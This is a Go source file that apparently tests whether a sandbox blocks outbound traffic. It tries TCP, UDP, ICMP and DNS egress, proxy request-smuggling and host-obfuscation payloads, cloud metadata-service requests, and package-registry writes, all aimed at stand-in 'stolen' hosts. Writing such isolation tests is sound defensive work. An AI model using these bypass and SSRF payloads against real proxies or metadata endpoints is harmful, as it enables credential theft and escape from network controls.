//go:build linux

package main

import (
	"bufio"
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strings"
	"syscall"
	"time"
)

const patience = 700 * time.Millisecond

// send opens a connection, says something that is worth stealing, and tells whether
// it was taken.
func send(network, address string) error {
	c, err := net.DialTimeout(network, address, patience)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, err = fmt.Fprintf(c, "GET /stolen HTTP/1.1\r\nHost: x\r\n\r\n")
	return err
}

func each(list string) []string { return strings.Split(list, ",") }

// ways tries several addresses; one that is reached is enough.
func ways(network string, addresses ...string) (bool, string) {
	var why []string
	for _, a := range addresses {
		if err := send(network, a); err == nil {
			return true, "reached " + a
		} else if len(why) < 3 {
			why = append(why, err.Error())
		}
	}
	return false, fmt.Sprintf("%d ways: %s", len(addresses), strings.Join(why, "; "))
}

// alone tells that nothing of the machine is reached directly. Only then does it
// try addresses of the outside world: a test must not speak to them.
func alone() bool {
	reached, _ := ways("tcp", each(to.TCP)...)
	return !reached
}

func dialDirectly() (bool, string) {
	if reached, what := ways("tcp", each(to.TCP)...); reached {
		return true, what
	}
	return ways("tcp", append(each(to.TCP), "192.0.2.1:443", "[2001:db8::1]:443", "198.51.100.7:80")...)
}

// proxyAddress is where its environment says that the way out is.
func proxyAddress() string {
	for _, name := range []string{"HTTPS_PROXY", "https_proxy", "ALL_PROXY"} {
		if v := os.Getenv(name); v != "" {
			return strings.TrimPrefix(v, "http://")
		}
	}
	return ""
}

// asked sends bytes to the proxy and returns the first line of its answer.
func asked(request string) string {
	c, err := net.DialTimeout("tcp", proxyAddress(), patience)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	fmt.Fprint(c, request)
	line, err := bufio.NewReader(c).ReadString('\n')
	if err != nil && line == "" {
		return err.Error()
	}
	return strings.TrimSpace(line)
}

// throughProxy tries requests. The proxy's own refusals are answers too.
func throughProxy(requests ...string) (bool, string) {
	if proxyAddress() == "" {
		return false, "there is no proxy"
	}
	answers := map[string]int{}
	for _, r := range requests {
		line := asked(r)
		if strings.Contains(line, " 200") {
			return true, fmt.Sprintf("%.60q was answered with %s", r, line)
		}
		answers[line]++
	}
	var all []string
	for line, n := range answers {
		all = append(all, fmt.Sprintf("%d × %s", n, line))
	}
	return false, strings.Join(all, "; ")
}

func connect(target string) string {
	return "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n"
}

func proxyAddresses() (bool, string) {
	var requests []string
	for _, sink := range each(to.TCP) {
		host, port, _ := net.SplitHostPort(sink)
		forms := []string{host, "[" + host + "]"}
		if ip := net.ParseIP(host).To4(); ip != nil {
			n := binary.BigEndian.Uint32(ip)
			forms = append(forms, fmt.Sprint(n), fmt.Sprintf("0x%x", n), fmt.Sprintf("0%o", n), fmt.Sprintf("%d.%d", ip[0], n&0xffffff), fmt.Sprintf("0%o.%d.%d.0x%x", ip[0], ip[1], ip[2], ip[3]), "[::ffff:"+host+"]")
		}
		for _, form := range forms {
			requests = append(requests, connect(form+":"+port), connect(form+":443"), "GET http://"+form+":"+port+"/stolen HTTP/1.1\r\nHost: "+form+"\r\n\r\n")
		}
	}
	requests = append(requests, connect("localhost:443"), connect("[::1]:443"), connect("0:443"), connect("127.1:443"))
	return throughProxy(requests...)
}

func proxyNames() (bool, string) {
	_, port, _ := net.SplitHostPort(each(to.TCP)[0])
	return throughProxy(
		connect("stolen.example:443"), connect("allowed.example.stolen.example:443"), connect("stolenallowed.example:443"), connect("allowed.example:"+port), connect("allowed.example:22"),
		connect("gist.github.com:443"), connect("api.github.com:443"), connect("proxy.golang.org:8443"), connect("registry.npmjs.org.stolen.example:443"),
		"GET http://stolen.example/ HTTP/1.1\r\nHost: stolen.example\r\n\r\n", "POST http://deb.debian.org/ HTTP/1.1\r\nHost: deb.debian.org\r\nContent-Length: 6\r\n\r\nstolen",
		"GET ftp://stolen.example/ HTTP/1.1\r\nHost: stolen.example\r\n\r\n",
	)
}

func proxySmuggling() (bool, string) {
	sink := each(to.TCP)[0]
	return throughProxy(
		"CONNECT allowed.example\x00."+sink+" HTTP/1.1\r\nHost: allowed.example:443\r\n\r\n", "CONNECT "+sink+" HTTP/1.1\r\nHost: allowed.example:443\r\n\r\n",
		connect("allowed.example:443@"+sink), connect("user@allowed.example:443"), connect("allowed.example.:443"), connect("allowed.example%00:443"), connect("allowed.example\u3002stolen.example:443"),
		"CONNECT allowed.example:443 HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nCONNECT "+sink+" HTTP/1.1\r\nHost: a\r\n\r\n",
		"CONNECT allowed.example:443 HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nCONNECT "+sink+" HTTP/1.1\r\n\r\n",
		"GET http://deb.debian.org@"+sink+"/ HTTP/1.1\r\nHost: deb.debian.org\r\n\r\n", "GET /stolen HTTP/1.1\r\nHost: "+sink+"\r\n\r\n",
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\x05\x01\x00", "\x04\x01\x01\xbb\x7f\x00\x00\x01\x00",
	)
}

func sendDatagrams() (bool, string) {
	var why []string
	for _, sink := range append(each(to.UDP), "192.0.2.1:443") {
		c, err := net.DialTimeout("udp", sink, patience)
		if err == nil {
			_, err = c.Write([]byte("stolen"))
			if err == nil {
				_ = c.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
				_, err = c.Read(make([]byte, 1)) // what is refused on the way comes back here
				if err == nil {
					return true, "answered by " + sink
				}
			}
			c.Close()
		}
		why = append(why, err.Error())
	}
	return false, strings.Join(why, "; ")
}

func sendICMP() (bool, string) {
	host, _, _ := net.SplitHostPort(each(to.UDP)[len(each(to.UDP))-1])
	var why []string
	for _, kind := range []int{syscall.SOCK_RAW, syscall.SOCK_DGRAM} {
		fd, err := syscall.Socket(syscall.AF_INET, kind, syscall.IPPROTO_ICMP)
		if err != nil {
			why = append(why, err.Error())
			continue
		}
		var a syscall.SockaddrInet4
		copy(a.Addr[:], net.ParseIP(host).To4())
		err = syscall.Sendto(fd, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}, 0, &a)
		syscall.Close(fd)
		if err == nil {
			return true, "an echo request was sent to " + host
		}
		why = append(why, err.Error())
	}
	return false, strings.Join(why, "; ")
}

func askNames() (bool, string) {
	if !alone() {
		return true, "the machine's own network is reached, so that its name servers are"
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	var why []string
	servers := append(each(to.UDP), "")
	for _, server := range servers {
		for _, network := range []string{"udp", "tcp"} {
			r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, address string) (net.Conn, error) {
				if server != "" {
					address = server
				}
				d := net.Dialer{Timeout: patience}
				return d.DialContext(ctx, network, address)
			}}
			addrs, err := r.LookupHost(ctx, "stolen-canary.example.com")
			if err == nil {
				return true, fmt.Sprintf("%s answered %v", server, addrs)
			}
			if len(why) < 2 {
				why = append(why, err.Error())
			}
		}
	}
	return false, strings.Join(why, "; ")
}

func askNamesOverHTTPS() (bool, string) {
	return throughProxy(connect("dns.google:443"), connect("cloudflare-dns.com:443"), connect("1.1.1.1:443"), connect("8.8.8.8:853"), connect("dns.quad9.net:443"),
		"GET http://dns.google/resolve?name=stolen.example HTTP/1.1\r\nHost: dns.google\r\n\r\n")
}

func reachMetadata() (bool, string) {
	if !alone() {
		return true, "the machine's own network is reached, so that its metadata service would be"
	}
	if reached, what := ways("tcp", "169.254.169.254:80", "[fd00:ec2::254]:80", "100.100.100.200:80", "169.254.170.2:80", "192.0.0.192:80"); reached {
		return true, what
	}
	return throughProxy(
		"GET http://169.254.169.254/latest/meta-data/iam/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "PUT http://169.254.169.254/latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nContent-Length: 0\r\n\r\n",
		"GET http://metadata.google.internal/computeMetadata/v1/ HTTP/1.1\r\nHost: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n", connect("metadata.google.internal:443"),
		connect("169.254.169.254:443"), connect("[fd00:ec2::254]:443"), connect("2852039166:443"), connect("0xa9fea9fe:443"), connect("169.254.43518:443"),
		"GET http://2852039166/ HTTP/1.1\r\nHost: 2852039166\r\n\r\n",
	)
}

func reachServices() (bool, string) {
	var addresses, requests []string
	for _, address := range each(to.Services) {
		host := strings.TrimPrefix(address, "http://")
		addresses = append(addresses, host)
		requests = append(requests, connect(host), "GET "+address+"/healthz HTTP/1.1\r\nHost: "+host+"\r\n\r\n",
			"POST "+address+"/api/v1/claim HTTP/1.1\r\nHost: "+host+"\r\nContent-Length: 2\r\n\r\n{}")
	}
	if reached, what := ways("tcp", addresses...); reached {
		return true, what
	}
	return throughProxy(requests...)
}

// publishPackage tries to write where there is only reading.
func publishPackage() (bool, string) {
	return throughProxy(
		"PUT http://deb.debian.org/stolen HTTP/1.1\r\nHost: deb.debian.org\r\nContent-Length: 6\r\n\r\nstolen",
		"PUT https://registry.npmjs.org/stolen HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Length: 6\r\n\r\nstolen",
		"POST http://registry.npmjs.org/ HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Length: 0\r\n\r\n",
	)
}
